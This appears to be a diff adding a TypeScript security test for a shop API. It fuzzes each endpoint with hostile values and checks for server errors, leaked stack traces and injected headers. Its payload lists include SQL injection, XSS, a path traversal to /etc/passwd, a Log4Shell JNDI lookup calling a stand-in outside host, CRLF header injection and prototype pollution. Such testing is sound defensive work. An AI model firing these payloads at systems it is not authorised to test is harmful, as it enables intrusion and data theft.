@@ -1,0 +1,105 @@
+/** The requests of the run with malicious values: no internal error, no undeclared status, no stack trace. */
+import { contract, operations } from '@shop/contract'
+import { type Route, responseSchema } from '../check-response.ts'
+import { shorten } from '../describe.ts'
+import { CONNECTION_CLOSED, type OperationRequest } from '../http.ts'
+import type { Run } from '../run.ts'
+import { createAccount } from './accounts.ts'
+import { fillCart, type Product } from './carts.ts'
+import { idempotencyKey, newEmail } from './requests.ts'
+
+/** Sent as JSON in bodies, as text in queries and paths. */
+const MALICIOUS_VALUES: readonly unknown[] = [
+  null,
+  -1,
+  1e308,
+  18_014_398_509_481_984,
+  '',
+  [],
+  [['nested'], { key: {} }],
+  { $gt: '' },
+  `' OR '1'='1' -- `,
+  '<script>alert(1)</script>',
+  '../../../../etc/passwd\u0000.png',
+  '$\u007bjndi:ldap://foreign-host.example/x}{{7*7}}',
+  'value\r\nX-Injected: 1',
+  '\ud800 \u202e \u{1f600}',
+  'x'.repeat(1_500),
+]
+
+const MALICIOUS_BODIES: readonly string[] = [
+  '',
+  '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{}}}',
+  `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
+  '{"unfinished":',
+  '\u0000',
+]
+
+const STACK_TRACE =
+  /\n\s+at .+:\d+:\d+|Traceback \(most recent call last\)|\.php(?:\(\d+\)|:\d+| on line \d+)|SQLSTATE\[|SQLITE_ERROR|syntax error at or near|java\.lang\.|System\.\w+Exception|"(?:trace|stack|stacktrace)":/
+
+export async function checkMaliciousInput(run: Run, products: readonly Product[]): Promise<void> {
+  const account = await createAccount(run)
+  const { body: profile } = await run.request(contract.profile.detail, { token: account?.token })
+  const cart = await fillCart(run, products.slice(0, 1), account?.token)
+  const { cart_uid, cart_id } = cart ?? {}
+  const keys = { ...account, cart_uid, cart_id, cartUid: cart_uid, customer_id: profile?.data?.customer_id }
+  // The sign-out last, because the others need the session.
+  const sorted = operations.toSorted((a, b) => Number(a.name === 'auth.signout') - Number(b.name === 'auth.signout'))
+  for (const operation of sorted) {
+    if (!run.isSelected(operation.name)) continue
+    const { request: { body, ...request } = {} } = run.sent.get(operation) ?? {}
+    // The accounts and carts of the recorded requests are used up.
+    const fresh = new Map<string, unknown>(Object.entries(keys))
+    if (operation.name === 'auth.signup') fresh.set('email', newEmail())
+    const renew = <T>(part: T): T => JSON.parse(JSON.stringify(part), (key, value) => fresh.get(key) ?? value)
+    const isJson = body !== undefined && !(body instanceof FormData)
+    const valid = { ...renew(request), body: isJson ? renew(body) : body }
+    for (const malicious of maliciousRequests(operation.route, valid)) await send(run, operation.route, malicious)
+  }
+  await run.request(contract.catalog.products)
+}
+
+function* maliciousRequests(route: Route, valid: OperationRequest): Generator<OperationRequest> {
+  for (const part of ['query', 'params', 'headers'] as const) {
+    for (const key of Object.keys(valid[part] ?? {})) {
+      for (const value of MALICIOUS_VALUES) {
+        const text = typeof value === 'string' ? value : JSON.stringify(value)
+        // Node.js sends no other headers.
+        const isSendable = part !== 'headers' || /^[ -~]*$/.test(text)
+        if (isSendable) yield { ...valid, [part]: { ...valid[part], [key]: text || ' ' } }
+      }
+    }
+  }
+  if (route.method === 'GET' || !('body' in route)) return
+  // A used key would hide the body behind 409.
+  const fresh = () => (valid.headers?.['idempotency-key'] === undefined ? {} : idempotencyKey())
+  const bodies = valid.body instanceof FormData ? [] : maliciousBodies(JSON.stringify(valid.body ?? {}))
+  for (const body of [...bodies, ...MALICIOUS_BODIES]) yield { ...valid, body, headers: fresh() }
+  yield { ...valid, body: 'x', headers: { ...fresh(), 'content-type': 'multipart/form-data; boundary=' } }
+}
+
+/** Replaces or removes each field, at any depth, and the whole body. */
+function maliciousBodies(json: string): unknown[] {
+  const names = new Set<string>()
+  JSON.parse(json, (name) => names.add(name))
+  return [...names].flatMap((name) =>
+    [undefined, ...MALICIOUS_VALUES].map((malicious): unknown =>
+      JSON.parse(json, (key, value: unknown) => (key === name ? malicious : value)),
+    ),
+  )
+}
+
+async function send(run: Run, route: Route, request: OperationRequest): Promise<void> {
+  const response = await run.send(route, request)
+  const { status, text, operation } = response
+  if (status === CONNECTION_CLOSED) return
+  const holds = (isHeld: boolean, path: string, expected: string, received: string) =>
+    run.holds(response, 'malicious input', isHeld, path, expected, received)
+  const declared = Object.keys(operation.route.responses).filter((each) => Number(each) < 500)
+  const isDeclared = status < 500 && responseSchema(operation, status) !== undefined
+  holds(isDeclared, 'status', declared.join(', '), String(status))
+  holds(response.headers['x-injected'] === undefined, 'header x-injected', 'no such header', 'x-injected')
+  const trace = STACK_TRACE.exec(text)
+  holds(trace === null, 'body', 'no stack trace', JSON.stringify(shorten(text.slice(trace?.index ?? 0), 80)))
+}
